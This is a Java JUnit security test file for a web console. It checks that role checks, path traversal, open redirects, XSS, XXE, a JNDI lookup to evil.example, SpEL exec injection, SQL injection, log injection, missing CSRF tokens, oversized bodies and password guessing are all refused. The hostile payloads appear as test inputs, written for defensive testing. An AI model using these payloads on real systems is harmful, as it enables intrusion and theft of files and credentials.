package nl.terugblik.console;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is not someone's is not let in, whoever asks and however. */
class HostileRequestsTest {

    @TempDir
    private static Path folder = Path.of("");

    private static ServedConsole console;
    private static Map<String, Visitor> visitors = Map.of();

    @BeforeAll
    static void serve() {
        console = ServedConsole.of(ServedConsole.worked(folder));
    }

    @BeforeEach
    void signIn() {
        visitors = Map.of(
                "anna", Visitor.signedIn(console, "anna"),
                "rob", Visitor.signedIn(console, "rob"),
                "ada", Visitor.signedIn(console, "ada"));
    }

    private static Visitor visitor(String who) {
        return java.util.Objects.requireNonNull(visitors.get(who));
    }

    @AfterAll
    static void close() {
        console.close();
    }

    @ParameterizedTest
    @CsvSource({
        "anna, /researcher",
        "anna, /auditor",
        "anna, /researcher/x",
        "anna, /auditor/x",
        "rob, /steward",
        "rob, /auditor",
        "rob, /accounts",
        "rob, /accounts/add",
        "rob, /steward/x",
        "ada, /steward",
        "ada, /researcher",
        "ada, /accounts",
        "ada, /accounts/leave",
        "ada, /researcher/x",
        "anna, /actuator",
        "rob, /actuator/env",
        "ada, /anything",
        "rob, /h2-console",
        "ada, /webauthn/x",
        "rob, /accounts/",
        "rob, /ACCOUNTS"
    })
    void areRefusedToOtherRoles(String who, String path) {
        assertThat(visitor(who).get(path).statusCode()).as(who + path).isIn(400, 403, 404);
        assertThat(new Visitor(console).get(path).statusCode()).as(path).isIn(302, 400, 403, 404);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/assets/../steward",
                "/assets/%2e%2e/accounts",
                "/assets/..%2faccounts",
                "/assets//accounts",
                "/assets/;/accounts",
                "/me/..;/accounts",
                "/assets/%252e%252e/accounts",
                "/assets/..%5caccounts",
                "/assets/../../../../etc/passwd",
                "/sign-in/../accounts",
                "/accounts%00",
                "/assets/%2e%2e%2fwords/frame_nl.properties",
                "/assets/..%c0%afwords/frame_nl.properties",
                "/assets/....//words/frame_nl.properties",
                "/assets/.%2e/words/frame_nl.properties",
                "/assets/icon.svg/../../words/frame_nl.properties",
                "/assets/icon.svg;x=/../../words/frame_nl.properties",
                "/researcher/runs/..%2f..%2fconsole",
                "/researcher/runs/%2e%2e/files/accounts.json",
                "/researcher/runs/..;/files/console/accounts.json",
                "/researcher/runs/none-1/files/..%2f..%2fconsole%2faccounts.json",
                "/researcher/runs/none-1/families/..%2f..%2fkey",
                "/researcher/studies/..%2f..%2fpom",
                "/researcher/studies/%2e%2e%2fpom.xml",
                "/researcher/studies/telling",
                "/researcher/releases/..%2f..%2f",
                "/researcher/work/..%2f..%2f",
                "/researcher/work/0123456789abcde",
                "/researcher/work/0123456789ABCDEF",
                "/researcher;/../accounts",
                "/.;/accounts",
                "/%61ccounts/add",
                "/accounts.json",
                "/accounts/.",
                "//accounts",
                "/./accounts",
                "/me/%2e%2e/accounts",
                "/WEB-INF/web.xml",
                "/META-INF/MANIFEST.MF",
                "/BOOT-INF/classes/application.properties",
                "/error?path=/accounts",
                "/login",
                "/logout",
                "/login/oauth2/code/network",
                "/oauth2/authorization/network",
                "/sign-in/network",
                "/sign-in/network/back?code=x&state=y",
                "/default-ui.css"
            })
    void arePathsThatLeadNowhere(String path) {
        var answer = visitor("rob").get(path);
        assertThat(answer.statusCode()).as(path).isIn(400, 403, 404);
        assertThat(answer.body()).doesNotContain("root:", "frame.skip =", "Manifest-Version", "anna", "Exception");
    }

    /** What rob, a researcher, may not have of what others started, and nobody of what is not theirs. */
    @Test
    void areIdsOfOthers() throws Exception {
        Visitor ada = visitor("ada");
        String verify = ada.post("/auditor/verify", "/auditor/verify", Map.of())
                .headers()
                .firstValue("Location")
                .orElse("");
        String id = verify.substring(verify.lastIndexOf('/') + 1);
        assertThat(id).matches("[0-9a-f]{16}");
        assertThat(visitor("rob").get("/researcher/work/" + id).statusCode()).isEqualTo(404);
        assertThat(visitor("rob").get("/researcher/work/" + id + "/steps").statusCode())
                .isEqualTo(404);
        assertThat(visitor("rob")
                        .post("/me", "/researcher/work/" + id + "/stop", Map.of())
                        .statusCode())
                .isEqualTo(404);
        assertThat(visitor("rob")
                        .post("/me", "/researcher/work/" + id + "/go-on", Map.of())
                        .statusCode())
                .isEqualTo(404);
        assertThat(visitor("anna").get("/steward/erasure/" + id).statusCode()).isEqualTo(404);
        assertThat(visitor("anna").get(verify).statusCode()).isEqualTo(403);
        // accounts of others, by a form of one's own
        for (String path : new String[] {"role", "leave", "reset"}) {
            assertThat(visitor("anna")
                            .post("/accounts", "/accounts/" + path, Map.of("name", "anna", "role", "auditor"))
                            .body())
                    .contains("Your own account is changed by another data steward");
            assertThat(visitor("anna")
                            .post("/accounts", "/accounts/" + path, Map.of("name", "nobody", "role", "auditor"))
                            .statusCode())
                    .isEqualTo(404);
        }
        assertThat(visitor("anna")
                        .post("/accounts", "/accounts/role", Map.of("name", "ada", "role", "admin"))
                        .statusCode())
                .isEqualTo(400);
        assertThat(visitor("rob")
                        .post("/me", "/me/passkeys/remove", Map.of("id", "one of another"))
                        .headers()
                        .firstValue("Location"))
                .hasValue("/me?last");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example/",
                "//evil.example",
                "///evil.example",
                "/\\evil.example",
                "\\\\evil.example",
                "/\t/evil.example",
                " //evil.example",
                "javascript:alert(1)",
                "data:text/html,x",
                "evil.example",
                "/%0d%0aLocation:%20//evil.example\r\nX: y",
                "/\u2028evil",
                "http:evil.example",
                "/#\"><script>alert(1)</script>",
                "/?x=\"><script>alert(1)</script>"
            })
    void areInvitationsToGoElsewhere(String to) {
        String asked = java.net.URLEncoder.encode(to, java.nio.charset.StandardCharsets.UTF_8);
        for (String page : new String[] {"/sign-in?to=", "/sign-in/arrived?to=", "/me/prove?to=", "/me/purpose?to="}) {
            String body = visitor("ada").get(page + asked).body();
            assertThat(body).doesNotContain("evil", "alert(1)");
        }
        Visitor rob = new Visitor(console);
        var in = rob.post(
                "/sign-in",
                "/sign-in",
                Map.of("username", "rob", "password", ServedConsole.PASSWORD, "code", console.code(), "to", to));
        assertThat(in.headers().firstValue("Location")).hasValue("/");
        assertThat(in.headers().map()).doesNotContainKey("x");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            application/json                  | {"name":"eve","role":"steward"}
            text/plain                        | name=eve&role=steward&_csrf=TOKEN
            application/xml                   | <!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
            application/x-java-serialized-object | rO0ABXNyAA
            application/x-www-form-urlencoded;charset=UTF-7 | name=eve&role=steward
            application/x-www-form-urlencoded | name=eve&role=steward&_csrf=%
            multipart/form-data               | no boundary
            multipart/form-data;boundary=x    | --x garbage
            multipart/form-data;boundary=     | --
            multipart/mixed;boundary=y        | --y--
            text/html;q=\u0000               | x
            image/svg+xml                     | <svg/>
            """)
    void areFormsThatAreNone(String type, String body) {
        Visitor anna = visitor("anna");
        anna.get("/me");
        var answer = anna.send(anna.request("/accounts/add")
                .header("Content-Type", type.replace("\\u0000", "x"))
                .POST(BodyPublishers.ofString(body))
                .build());
        assertThat(answer.statusCode()).isIn(400, 403, 415);
        assertThat(answer.body()).doesNotContain("Exception", "root:");
        assertThat(new nl.terugblik.accounts.Accounts(
                                console.work(),
                                new nl.terugblik.ledger.LedgerFolder(console.work(), java.util.Optional.empty()),
                                console.clock())
                        .find("eve"))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"_method=DELETE", "_method=PUT", "spring.profiles.active=x", "class.module.classLoader.x=y"})
    void areFieldsThatNobodyAskedFor(String field) {
        var answer = visitor("anna").get("/steward?" + field);
        assertThat(answer.statusCode()).isEqualTo(200);
        Visitor anna = visitor("anna");
        assertThat(anna.send(anna.request("/me")
                                .header("X-HTTP-Method-Override", "DELETE")
                                .header("X-Method-Override", "PUT")
                                .GET()
                                .build())
                        .statusCode())
                .isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "eve\r\n{\"n\":1,\"actor\":\"anna\",\"action\":\"session.begun\"}",
                "eve\u0000anna",
                "anna\n",
                "\u202eanna",
                "${jndi:ldap://evil.example/x}",
                "#{T(java.lang.Runtime).getRuntime().exec('x')}",
                "__${7*7}__::x",
                "' or '1'='1",
                "<script>alert(1)</script>",
                "..%2f..%2fanna"
            })
    void areNamesThatWouldBeLinesOfALog(String name) throws Exception {
        console.clock().pass(java.time.Duration.ofMinutes(1));
        int known = console.looks().size();
        Visitor visitor = new Visitor(console);
        var answer = visitor.signIn(name, "x", "000000");
        assertThat(answer.headers().firstValue("Location")).hasValue("/sign-in?wrong");
        assertThat(console.looks().subList(known, console.looks().size()))
                .singleElement()
                .asString()
                .contains("session.refused", "\"actor\":\"unknown\"", "\"object\":\"account unknown\"")
                .doesNotContain("evil", "eve", "script>");
        assertThat(visitor.get("/sign-in?wrong").body()).doesNotContain("evil", "eve\r", "eve\u0000", "alert(1)");
    }

    @ParameterizedTest
    @ValueSource(strings = {"purpose", "purpose=", "purpose=none", "purpose=AUDIT", "purpose=audit%0a"})
    void arePurposesThatAreNone(String purpose) {
        int known = console.looks().size();
        var answer = visitor("rob").get("/researcher/runs/none-1/families/dataset/coded.csv?" + purpose);
        assertThat(answer.headers().firstValue("Location").orElse("")).startsWith("/me/purpose?to=");
        assertThat(console.looks()).hasSize(known);
    }

    /** A word of a page that begins with @ would be read as a file of words by whoever starts commands so. */
    @Test
    void areNamesThatWouldBeFiles() {
        Visitor anna = visitor("anna");
        Map<String, String> fields = Map.of(
                "organisation",
                "@" + console.work().resolve("console/accounts.json"),
                "number",
                "1",
                "again",
                "1",
                "sure",
                "yes");
        String page = anna.post("/steward/erasure/new", "/steward/erasure/new", fields)
                .headers()
                .firstValue("Location")
                .orElse("");
        assertThat(page).matches("/steward/erasure/[0-9a-f]{16}");
        String said = "";
        for (int looks = 0; looks < 600 && !said.contains("Nothing is held"); looks++) {
            said = anna.get(page + "?lang=en").body();
            assertThat(said).doesNotContain("handle", "passkeys", "Unmatched");
            java.util.concurrent.locks.LockSupport.parkNanos(50_000_000);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/accounts/add",
                "/accounts/role",
                "/accounts/leave",
                "/accounts/reset",
                "/sign-out",
                "/me/password",
                "/me/passkeys/remove",
                "/sign-in",
                "/webauthn/register",
                "/webauthn/register/options"
            })
    void changeNothingWithoutTheTokenOfAPage(String path) {
        assertThat(visitor("anna")
                        .postPlain(path, Map.of("name", "ada", "role", "steward"))
                        .statusCode())
                .isEqualTo(403);
        assertThat(visitor("anna").get("/me").statusCode()).isEqualTo(200);
    }

    @Test
    void areTurnedAwayWhereTheyAreHuge() {
        Visitor anna = visitor("anna");
        assertThat(anna.send(anna.request("/sign-in")
                                .POST(BodyPublishers.ofString("x".repeat(70_000)))
                                .build())
                        .statusCode())
                .isEqualTo(413);
        assertThat(anna.send(anna.request("/login/webauthn")
                                .POST(BodyPublishers.ofInputStream(
                                        () -> new java.io.ByteArrayInputStream(new byte[10])))
                                .build())
                        .statusCode())
                .isEqualTo(411);
    }

    @Test
    void areLimitedWhereTheyGuess() {
        Visitor visitor = new Visitor(console);
        for (int time = 0; time < 5; time++) {
            assertThat(visitor.signIn("ada", "guess " + time, "000000").statusCode())
                    .isEqualTo(302);
        }
        assertThat(visitor.signIn("ada", ServedConsole.PASSWORD, console.code()).statusCode())
                .isEqualTo(429);
        console.clock().pass(java.time.Duration.ofMinutes(16));
        assertThat(visitor.get("/me").statusCode()).isEqualTo(302);
    }
}
